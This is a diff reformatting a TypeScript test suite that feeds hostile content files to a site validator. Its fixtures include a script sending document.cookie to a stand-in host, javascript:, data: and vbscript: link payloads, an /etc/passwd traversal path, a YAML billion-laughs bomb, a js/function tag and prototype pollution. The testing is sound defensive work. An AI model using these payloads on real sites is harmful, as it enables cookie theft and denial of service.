@@ -16,8 +16,10 @@ const NEWS = fixture('valide', 'content/news/lancement-portail.md');
 const FUNDER = fixture('valide', 'content/funders/fondation-solidarite.yaml');
 const [, HEAD, BODY] = /^(---\n[\s\S]*?\n---\n)([\s\S]*)$/.exec(NEWS)!;
 /** A valid news entry whose id is the file name, with `body` as its text. */
-const news = (id: string, body: string): string => `${HEAD!.replace('id: lancement-portail', `id: ${id}`).replace(/ressources_liees:\n.*\n/, '')}\n${body}\n`;
-const funder = (id: string, extra: string): string => `${FUNDER.replace('id: fondation-solidarite', `id: ${id}`)}${extra}`;
+const news = (id: string, body: string): string =>
+  `${HEAD!.replace('id: lancement-portail', `id: ${id}`).replace(/ressources_liees:\n.*\n/, '')}\n${body}\n`;
+const funder = (id: string, extra: string): string =>
+  `${FUNDER.replace('id: fondation-solidarite', `id: ${id}`)}${extra}`;
 
 /** Deterministic random bytes, with NULs and invalid UTF-8 sequences. */
 function garbage(size: number, seed: number): Buffer {
@@ -31,7 +33,8 @@ function garbage(size: number, seed: number): Buffer {
   return out;
 }
 
-const jsCode = (marker: string): string => `require('fs').writeFileSync(require('path').join(process.cwd(), '${marker}'), 'exécuté')`;
+const jsCode = (marker: string): string =>
+  `require('fs').writeFileSync(require('path').join(process.cwd(), '${marker}'), 'exécuté')`;
 
 /** Each hostile file, by path, with what it tries. */
 const HOSTILE: Record<string, string | Uint8Array> = {
@@ -42,7 +45,10 @@ const HOSTILE: Record<string, string | Uint8Array> = {
   'content/news/sans-en-tete.md': '# Une actualité\n\nSans en-tête.\n',
   'content/news/en-tete-ouvert.md': '---\nid: en-tete-ouvert\ntitre: Actualité\n\nLe texte sans fin d’en-tête.\n',
   'content/news/composant.mdx': `${news('composant', 'import Evil from "./evil";\n\n<Evil onLoad={() => fetch("https://x.example.org")} />')}`,
-  'content/news/script.md': news('script', 'Bonjour.\n\n<script>fetch("https://x.example.org/?c=" + document.cookie)</script>'),
+  'content/news/script.md': news(
+    'script',
+    'Bonjour.\n\n<script>fetch("https://x.example.org/?c=" + document.cookie)</script>',
+  ),
   'content/news/iframe.md': news('iframe', 'Voir : <iframe src="https://x.example.org"></iframe>'),
   'content/news/style.md': news('style', '<style>body { display: none }</style>'),
   'content/news/onerror.md': news('onerror', '<img src="x" onerror="alert(document.domain)">'),
@@ -50,19 +56,42 @@ const HOSTILE: Record<string, string | Uint8Array> = {
   'content/news/lien-casse.md': news('lien-casse', '[Cliquez ici](JaVaScRiPt:alert(1))'),
   'content/news/lien-entites.md': news('lien-entites', '[Cliquez ici](&#106;avascript:alert(1))'),
   'content/news/lien-echappe.md': news('lien-echappe', '[Cliquez ici](javascript\\:alert(1))'),
-  'content/news/lien-data.md': news('lien-data', '[Ouvrir](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'),
+  'content/news/lien-data.md': news(
+    'lien-data',
+    '[Ouvrir](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+  ),
   'content/news/lien-vbscript.md': news('lien-vbscript', '[Ouvrir](vbscript:msgbox("x"))'),
   'content/news/image-passwd.md': news('image-passwd', '![mots de passe](../../../etc/passwd)'),
   'content/news/image-site.md': news('image-site', '![hors du site](@site/../x.png)'),
-  'content/funders/milliard-de-rires.yaml': funder('milliard-de-rires', [
-    'note_interne: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
-    ...'bcdefghi'.split('').map((k, i) => `n${k}: &${k} [*${'abcdefghi'[i]},*${'abcdefghi'[i]},*${'abcdefghi'[i]},*${'abcdefghi'[i]},*${'abcdefghi'[i]},*${'abcdefghi'[i]},*${'abcdefghi'[i]},*${'abcdefghi'[i]},*${'abcdefghi'[i]}]`),
-  ].join('\n') + '\n'),
-  'content/funders/imbrication.yaml': funder('imbrication', `note_interne: ${'['.repeat(10_000)}${']'.repeat(10_000)}\n`),
-  'content/funders/imbrication-blocs.yaml': funder('imbrication-blocs', `note_interne:\n${Array.from({ length: 1_000 }, (_, i) => `${' '.repeat(i + 1)}- `).join('\n')}x\n`),
-  'content/funders/etiquette-js.yaml': funder('etiquette-js', `note_interne: !!js/function "function () { ${jsCode('MARQUEUR-tag')} }"\nnote: !<tag:yaml.org,2002:js/undefined> x\n`),
+  'content/funders/milliard-de-rires.yaml': funder(
+    'milliard-de-rires',
+    [
+      'note_interne: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
+      ...'bcdefghi'
+        .split('')
+        .map(
+          (k, i) =>
+            `n${k}: &${k} [*${'abcdefghi'[i]},*${'abcdefghi'[i]},*${'abcdefghi'[i]},*${'abcdefghi'[i]},*${'abcdefghi'[i]},*${'abcdefghi'[i]},*${'abcdefghi'[i]},*${'abcdefghi'[i]},*${'abcdefghi'[i]}]`,
+        ),
+    ].join('\n') + '\n',
+  ),
+  'content/funders/imbrication.yaml': funder(
+    'imbrication',
+    `note_interne: ${'['.repeat(10_000)}${']'.repeat(10_000)}\n`,
+  ),
+  'content/funders/imbrication-blocs.yaml': funder(
+    'imbrication-blocs',
+    `note_interne:\n${Array.from({ length: 1_000 }, (_, i) => `${' '.repeat(i + 1)}- `).join('\n')}x\n`,
+  ),
+  'content/funders/etiquette-js.yaml': funder(
+    'etiquette-js',
+    `note_interne: !!js/function "function () { ${jsCode('MARQUEUR-tag')} }"\nnote: !<tag:yaml.org,2002:js/undefined> x\n`,
+  ),
   'content/funders/proto.yaml': funder('proto', '__proto__:\n  pollue: true\n'),
-  'content/news/proto-en-tete.md': NEWS.replace('id: lancement-portail', 'id: proto-en-tete').replace('type: annonce', 'type: annonce\nconstructor:\n  prototype:\n    pollue: true'),
+  'content/news/proto-en-tete.md': NEWS.replace('id: lancement-portail', 'id: proto-en-tete').replace(
+    'type: annonce',
+    'type: annonce\nconstructor:\n  prototype:\n    pollue: true',
+  ),
   'content/funders/cles-en-double.yaml': funder('cles-en-double', 'titre: Un autre titre\n'),
   'content/news/binaire.md': garbage(4096, 7),
   'content/funders/binaire.yaml': garbage(4096, 11),
@@ -163,7 +192,11 @@ describe('hostile input', () => {
   it('does not pollute Object.prototype when the core reads the same files in this process', () => {
     const result = validateRepository(root, undefined, { today: TODAY });
     expect(result.problems.map(line).length).toBe(problems.length);
-    const entry = parseEntry(collectionOfPath('content/funders/proto.yaml')!, 'content/funders/proto.yaml', fs.readFileSync(path.join(root, 'content/funders/proto.yaml')));
+    const entry = parseEntry(
+      collectionOfPath('content/funders/proto.yaml')!,
+      'content/funders/proto.yaml',
+      fs.readFileSync(path.join(root, 'content/funders/proto.yaml')),
+    );
     expect(entry.data).toBeUndefined();
     expect(({} as Record<string, unknown>).pollue).toBeUndefined();
     expect(Object.prototype).not.toHaveProperty('pollue');
@@ -172,17 +205,33 @@ describe('hostile input', () => {
   it('accepts a valid file that starts with a byte order mark', async () => {
     const bom = makeTree('valide', {
       'content/news/lancement-portail.md': Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(NEWS)]),
-      'content/funders/fondation-solidarite.yaml': Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(FUNDER)]),
+      'content/funders/fondation-solidarite.yaml': Buffer.concat([
+        Buffer.from([0xef, 0xbb, 0xbf]),
+        Buffer.from(FUNDER),
+      ]),
     });
-    expect(await runCli(['validate', '--today', TODAY], bom)).toEqual({ code: 0, stdout: '✔ 8 fichiers vérifiés, aucun problème.\n', stderr: '' });
+    expect(await runCli(['validate', '--today', TODAY], bom)).toEqual({
+      code: 0,
+      stdout: '✔ 8 fichiers vérifiés, aucun problème.\n',
+      stderr: '',
+    });
   });
 
   it('gives each file, validated alone, its located error (same core as the binary)', () => {
     for (const file of Object.keys(HOSTILE)) {
       const alone = validateRepository(root, [file], { today: TODAY }).problems;
       expect(alone.length, file).toBeGreaterThan(0);
-      expect(alone.every((p) => p.file === file && p.severity === 'error'), file).toBe(true);
-      expect(alone.map(line)).toEqual(problems.filter((p) => p.file === file).map((p) => `${p.file}:${p.line}:${p.col}  ${p.rule}  ${p.message}${'hint' in p ? ` → ${String(p.hint)}` : ''}`));
+      expect(
+        alone.every((p) => p.file === file && p.severity === 'error'),
+        file,
+      ).toBe(true);
+      expect(alone.map(line)).toEqual(
+        problems
+          .filter((p) => p.file === file)
+          .map(
+            (p) => `${p.file}:${p.line}:${p.col}  ${p.rule}  ${p.message}${'hint' in p ? ` → ${String(p.hint)}` : ''}`,
+          ),
+      );
     }
   });
 });
